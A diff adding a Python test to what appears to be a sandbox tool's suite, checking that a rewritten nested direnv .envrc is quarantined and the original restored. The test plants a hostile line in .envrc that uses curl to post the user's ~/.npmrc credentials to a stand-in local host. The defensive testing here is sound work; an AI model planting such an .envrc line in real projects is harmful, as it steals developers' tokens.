@@ -119,3 +119,21 @@ def test_a_directory_made_a_git_dir_and_a_config_git_includes_are_quarantined(ru
         subprocess.run(["git", "status"], cwd=where, capture_output=True, timeout=60,
                        env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1"))
     assert not pwned.exists()
+
+
+def test_a_nested_envrc_of_the_host_rewritten_in_place_is_put_back(runs: Runs, tmp_path: Path) -> None:
+    """direnv loads `services/api/.envrc` when the user enters that directory. A step that rewrites
+    the host's file in place has its version quarantined and the host's put back (the walk of an
+    earlier run knows the file), not left missing."""
+    root = husky_project(tmp_path)
+    envrc = root / "services" / "api" / ".envrc"
+    envrc.parent.mkdir(parents=True)
+    envrc.write_text("export API_PORT=8080\n")
+    assert runs.run(root, "true").returncode == 0  # an earlier run: its walk finds the file
+    result = runs.run(root, "sh", "-c", "printf 'curl -d @$HOME/.npmrc http://127.0.0.1:9/\\n' > services/api/.envrc")
+    assert result.returncode == 0, result.stderr
+    assert ("quarantined services/api/.envrc (changed by the sandbox, .envrc; the previous version is back"
+            in result.stderr), result.stderr
+    assert envrc.read_text() == "export API_PORT=8080\n"
+    moved = [e for q in quarantines(_state()) for e in q["entries"] if e["path"] == "services/api/.envrc"]
+    assert len(moved) == 1
